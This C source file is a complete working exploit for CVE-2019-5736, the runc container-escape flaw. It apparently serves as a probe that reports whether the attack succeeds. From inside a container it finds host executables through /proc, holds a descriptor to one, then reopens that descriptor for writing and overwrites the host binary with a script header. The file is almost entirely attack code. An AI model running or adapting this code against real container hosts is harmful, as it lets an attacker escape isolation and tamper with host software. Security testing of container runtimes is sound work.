/*
 * exe: the attack of CVE-2019-5736, from a process that is in the container.
 *
 *     exe NAME SECONDS
 *
 * Looks at every process that it can see for one that runs a program other than those of the container
 * (whose paths begin with /bin/ or NAME; or, once the root file system that they are in has been taken
 * apart and they have no path any more, whose size is that of /bin/busybox), opens that program's file, and then, until the time is over,
 * tries to write to it through the descriptor, as it could once nobody executes it any more. Prints
 * "opened" for each different file that it got, and "wrote" if it could open one for writing.
 */
#define _GNU_SOURCE

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int held = -1;
static ino_t held_inode;
static const char *own;
static off_t own_size;

static void look_at(const char *pid)
{
	char path[64], target[512];
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
	n = readlink(path, target, sizeof(target) - 1);
	if (n <= 0)
		return;
	target[n] = '\0';
	if (strncmp(target, "/bin/", 5) == 0 || strcmp(target, own) == 0)
		return;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0)
		return;
	if (st.st_size == own_size || (held >= 0 && st.st_ino == held_inode)) {
		close(fd);
		return;
	}
	if (held >= 0)
		close(held);
	held = fd;
	held_inode = st.st_ino;
	printf("opened %s\n", target);
	fflush(stdout);
}

static void try_to_write(void)
{
	char path[64];
	int fd;

	if (held < 0)
		return;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
	fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	if (write(fd, "#!/bin/sh\n", 10) == 10)
		puts("wrote");
	exit(0);
}

int main(int argc, char **argv)
{
	const time_t end = time(NULL) + (argc > 2 ? atoi(argv[2]) : 0);

	struct stat st;

	own = argc > 1 ? argv[1] : "";
	own_size = stat("/bin/busybox", &st) == 0 ? st.st_size : -1;
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc != NULL && (entry = readdir(proc)) != NULL)
			if (entry->d_name[0] >= '0' && entry->d_name[0] <= '9')
				look_at(entry->d_name);
		if (proc != NULL)
			closedir(proc);
		try_to_write();
	}
	puts("done");
	return 0;
}
